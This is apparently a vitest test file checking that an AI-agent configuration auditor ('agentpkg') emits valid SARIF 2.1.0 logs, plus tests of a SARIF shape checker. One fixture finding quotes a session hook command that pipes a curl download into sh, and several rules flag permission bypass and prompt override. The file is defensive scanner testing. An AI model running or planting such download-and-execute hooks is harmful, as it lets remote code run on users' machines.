import { describe, expect, it } from "vitest";
import { sarifProblems } from "../../test/sarif-shape.js";
import { RULES } from "../audit/rules.js";
import type { AuditResult } from "../operations/audit.js";
import { VERSION } from "../version.js";
import { auditSarif, fileUri, SARIF_SCHEMA } from "./sarif.js";

const result: AuditResult = {
  findings: [
    { rule: "download-exec", severity: "high", file: ".claude/settings.json", line: 7, message: "hook SessionStart pipes a download (curl) into sh: curl -s https://x | sh", entry: "hooks/SessionStart/0123456789ab", package: "kit" },
    { rule: "unrestricted-tools", severity: "medium", file: ".claude/agents/my agent#1.md", line: 2, message: "no tools list" },
    { rule: "prompt-override", severity: "low", file: ".claude/agents/sec.md", line: 12, message: "quoted", package: "sec" },
  ],
  audited: 3,
  entries: 1,
  packages: ["kit", "sec"],
  all: true,
  skipped: [],
};

describe("audit --sarif", () => {
  const log = auditSarif(result) as any;

  it("has the structure SARIF 2.1.0 requires", () => {
    expect(sarifProblems(log)).toEqual([]);
    expect(log.version).toBe("2.1.0");
    expect(log.$schema).toBe(SARIF_SCHEMA);
    expect(log.runs).toHaveLength(1);
  });

  it("describes the tool and every rule, with its default level", () => {
    const driver = log.runs[0].tool.driver;
    expect(driver).toMatchObject({ name: "agentpkg", version: VERSION });
    expect(driver.informationUri).toBeUndefined(); // optional in 2.1.0; agentpkg has no canonical page to point at
    expect(driver.rules.map((r: any) => r.id)).toEqual(RULES.map((r) => r.id));
    const bypass = driver.rules.find((r: any) => r.id === "permission-mode-bypass");
    expect(bypass).toMatchObject({ shortDescription: { text: "permissionMode: bypassPermissions" }, defaultConfiguration: { level: "error" } });
    expect(driver.rules.find((r: any) => r.id === "unrestricted-tools").defaultConfiguration.level).toBe("warning");
    expect(driver.rules.find((r: any) => r.id === "permission-mode-accept-edits").defaultConfiguration.level).toBe("note");
  });

  it("has one result per finding, with its rule, level, message and location", () => {
    const results = log.runs[0].results;
    expect(results).toHaveLength(3);
    expect(results[0]).toEqual({
      ruleId: "download-exec",
      ruleIndex: RULES.findIndex((r) => r.id === "download-exec"),
      level: "error",
      message: { text: result.findings[0]!.message },
      locations: [
        {
          physicalLocation: { artifactLocation: { uri: ".claude/settings.json" }, region: { startLine: 7 } },
          logicalLocations: [{ name: "hooks/SessionStart/0123456789ab", kind: "object" }],
        },
      ],
      properties: { package: "kit" },
    });
    expect(results.map((r: any) => r.level)).toEqual(["error", "warning", "note"]);
    // a file name with a space and a # stays one path
    expect(results[1].locations[0].physicalLocation.artifactLocation.uri).toBe(".claude/agents/my%20agent%231.md");
  });

  it("no findings: still a valid log, with every rule and no results", () => {
    const empty = auditSarif({ ...result, findings: [] }) as any;
    expect(sarifProblems(empty)).toEqual([]);
    expect(empty.runs[0].results).toEqual([]);
  });

  it("fileUri encodes each segment", () => {
    expect(fileUri(".claude/skills/ünï/a b.md")).toBe(".claude/skills/%C3%BCn%C3%AF/a%20b.md");
  });
});

describe("the SARIF shape check", () => {
  it.each<[string, (log: any) => void, string]>([
    ["wrong version", (l) => (l.version = "2.0.0"), 'sarifLog.version: must be "2.1.0"'],
    ["no runs", (l) => delete l.runs, 'sarifLog: requires "runs"'],
    ["no tool", (l) => delete l.runs[0].tool, 'runs[0]: requires "tool"'],
    ["no driver name", (l) => delete l.runs[0].tool.driver.name, 'runs[0].tool.driver: requires "name"'],
    ["a rule without id", (l) => delete l.runs[0].tool.driver.rules[0].id, 'runs[0].tool.driver.rules[0]: requires "id"'],
    ["a bad default level", (l) => (l.runs[0].tool.driver.rules[0].defaultConfiguration.level = "high"), "runs[0].tool.driver.rules[0].defaultConfiguration.level: must be one of none, note, warning, error"],
    ["a result without message", (l) => delete l.runs[0].results[0].message, 'runs[0].results[0]: requires "message"'],
    ["a bad result level", (l) => (l.runs[0].results[0].level = "high"), "runs[0].results[0].level: must be one of none, note, warning, error"],
    ["no start line", (l) => delete l.runs[0].results[0].locations[0].physicalLocation.region.startLine, 'runs[0].results[0].locations[0].physicalLocation.region: requires "startLine"'],
    ["line 0", (l) => (l.runs[0].results[0].locations[0].physicalLocation.region.startLine = 0), "runs[0].results[0].locations[0].physicalLocation.region.startLine: must be an integer >= 1"],
    ["a uri with a space", (l) => (l.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri = "a b"), "runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri: must be a URI reference"],
    ["a ruleIndex pointing elsewhere", (l) => (l.runs[0].results[0].ruleIndex = 0), "runs[0].results[0].ruleIndex: must point at the rule with ruleId"],
  ])("catches %s", (_n, breakIt, problem) => {
    const log = JSON.parse(JSON.stringify(auditSarif(result)));
    breakIt(log);
    expect(sarifProblems(log)).toContain(problem);
  });
});
